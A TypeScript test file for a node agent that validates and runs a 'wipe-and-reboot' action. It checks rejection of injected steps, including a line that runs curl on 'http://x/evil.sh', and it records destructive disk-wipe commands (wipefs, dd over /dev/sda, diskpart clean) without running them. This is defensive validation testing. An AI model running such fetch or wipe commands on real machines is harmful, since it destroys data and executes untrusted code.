/** The node agent's checks and step runner (agent/run-action.ts), with a recording runner. */
import { existsSync, readFileSync } from 'node:fs';
import os from 'node:os';
import test from 'ava';
import { type ActionReport, checkAction, runAction } from '../../firmware/agent/run-action.ts';
import { BootboxError } from '../../firmware/core/errors.ts';
import { buildWipeAction, type WipeAction } from '../../firmware/telemetry/mqtt/node-actions.ts';

const NOW = new Date('2026-01-01T12:00:00.000Z');
const action = (o: Partial<WipeAction> = {}, os: 'linux' | 'windows' = 'linux'): Record<string, unknown> => ({
  ...(buildWipeAction({ box: 'box1', transaction: 'tx', ts: NOW.toISOString(), os }) as WipeAction),
  ...o,
});

const refusal = (payload: unknown, c: Partial<Parameters<typeof checkAction>[1]> = {}) => {
  const r = checkAction(payload, { topicBox: 'box1', now: NOW, ...c });
  return r instanceof BootboxError ? `${r.code}: ${r.message}` : 'accepted';
};

test('accepted: the right box, a known action, fresh, the agent own plan', (t) => {
  t.is(refusal(action()), 'accepted');
  t.is(refusal(action({}, 'windows'), { expectedBox: 'box1' }), 'accepted');
  t.is(refusal(action({ ts: new Date(NOW.getTime() - 299_000).toISOString() })), 'accepted');
});

test('refused: another box, unknown action, stale or future, altered steps, bad disk', (t) => {
  t.regex(
    refusal(action(), { topicBox: 'box2', expectedBox: 'box1' }),
    /^ACTION_REFUSED: the action came from box box2; this agent serves box box1/,
  );
  t.regex(refusal(action({ box: 'box9' })), /names box "box9" but came on the topic of box box1/);
  t.regex(refusal(action({ action: 'format-c' as never })), /unknown action "format-c"/);
  t.regex(refusal(action({ ts: new Date(NOW.getTime() - 301_000).toISOString() })), /is 301 s old/);
  t.regex(refusal(action({ ts: new Date(NOW.getTime() + 600_000).toISOString() })), /600 s in the future/);
  t.regex(refusal(action({ ts: 'yesterday' })), /no valid "ts"/);
  t.regex(refusal(action({ transaction: undefined as never })), /no valid "transaction"/);
  t.regex(refusal(action({ steps: [{ run: ['curl', 'http://x/evil.sh'] }] })), /steps are not the linux wipe plan/);
  t.regex(
    refusal(action({ disk: '/dev/sdb' })),
    /steps are not the linux wipe plan for disk \/dev\/sdb/,
    'disk and steps must agree',
  );
  t.regex(refusal(action({ os: 'plan9' as never })), /unknown os "plan9"/);
  t.regex(refusal(action({ disk: '/etc/passwd' })), /a Linux disk is a block device path/);
  t.regex(refusal('wipe'), /not a JSON object/);
});

function recorder(exits: Record<string, number> = {}) {
  const ran: string[][] = [];
  const scripts: string[] = [];
  return {
    ran,
    scripts,
    runner: async (argv: string[]) => {
      ran.push(argv);
      if (argv[0] === 'diskpart') scripts.push(readFileSync(argv[2]!, 'utf8'));
      return exits[argv[0]!] ?? 0;
    },
  };
}

const base = (r: ReturnType<typeof recorder>, sent: ActionReport[], printed: string[], dryRun = false) => ({
  name: 'node-a',
  dryRun,
  runner: r.runner,
  print: (l: string) => printed.push(l),
  tmpDir: os.tmpdir(),
  beforeRestart: async (rep: ActionReport) => {
    sent.push(structuredClone(rep));
  },
});

test('Linux: every step in order; the report goes out before the reboot', async (t) => {
  const r = recorder();
  const sent: ActionReport[] = [];
  const printed: string[] = [];
  const a = checkAction(action(), { topicBox: 'box1', now: NOW }) as WipeAction;
  const out = await runAction(a, base(r, sent, printed));
  t.is(out, undefined, 'the restart started: nothing more to report');
  t.deepEqual(r.ran, [
    ['wipefs', '--all', '--force', '/dev/sda'],
    ['dd', 'if=/dev/zero', 'of=/dev/sda', 'bs=1M', 'count=1', 'conv=fsync'],
    ['sync'],
    ['reboot'],
  ]);
  t.deepEqual(sent, [
    {
      transaction: 'tx',
      name: 'node-a',
      status: 'ok',
      dryRun: false,
      steps: [
        { cmd: 'wipefs --all --force /dev/sda', exit: 0 },
        { cmd: 'dd if=/dev/zero of=/dev/sda bs=1M count=1 conv=fsync', exit: 0 },
        { cmd: 'sync', exit: 0 },
        { cmd: 'reboot', exit: null },
      ],
    },
  ]);
  t.is(printed[1], 'run: wipefs --all --force /dev/sda');
});

test('Linux: the first failure stops the plan; no reboot', async (t) => {
  const r = recorder({ dd: 1 });
  const sent: ActionReport[] = [];
  const a = checkAction(action(), { topicBox: 'box1', now: NOW }) as WipeAction;
  const out = await runAction(a, base(r, sent, []));
  t.deepEqual(
    r.ran.map((x) => x[0]),
    ['wipefs', 'dd'],
  );
  t.is(sent.length, 0);
  t.like(out, { status: 'error', error: { code: 'ACTION_FAILED' } });
  t.regex(out!.error!.message, /step 2 \(dd if=\/dev\/zero .*\) exited with 1/);
  t.deepEqual(
    out!.steps.map((s) => s.exit),
    [0, 1, null, null],
  );
});

test('Windows: the diskpart script is written to a temp file (CRLF), run with /s, then removed', async (t) => {
  const r = recorder();
  const sent: ActionReport[] = [];
  const a = checkAction(action({}, 'windows'), { topicBox: 'box1', now: NOW }) as WipeAction;
  await runAction(a, base(r, sent, []));
  t.is(r.ran[0]![0], 'diskpart');
  t.is(r.ran[0]![1], '/s');
  t.is(r.scripts[0], 'select disk 0\r\nclean\r\ncreate partition primary\r\nassign letter=C\r\nexit\r\n');
  t.false(existsSync(r.ran[0]![2]!), 'the script is removed afterwards');
  t.deepEqual(r.ran[1], ['shutdown', '/r', '/t', '5']);
  t.deepEqual(sent[0]!.steps, [
    { cmd: 'diskpart /s <script>', exit: 0 },
    { cmd: 'shutdown /r /t 5', exit: null },
  ]);
});

test('dry run: prints the plan, runs nothing, reports every step not run', async (t) => {
  const r = recorder();
  const printed: string[] = [];
  const a = checkAction(action(), { topicBox: 'box1', now: NOW }) as WipeAction;
  const out = await runAction(a, base(r, [], printed, true));
  t.deepEqual(r.ran, []);
  t.deepEqual(printed, [
    'plan wipe-and-reboot box=box1 transaction=tx os=linux disk=/dev/sda',
    'run: wipefs --all --force /dev/sda',
    'run: dd if=/dev/zero of=/dev/sda bs=1M count=1 conv=fsync',
    'run: sync',
    'run: reboot',
    'dry-run: 4 step(s) not run',
  ]);
  t.like(out, { status: 'ok', dryRun: true });
  t.true(out!.steps.every((s) => s.exit === null));
});
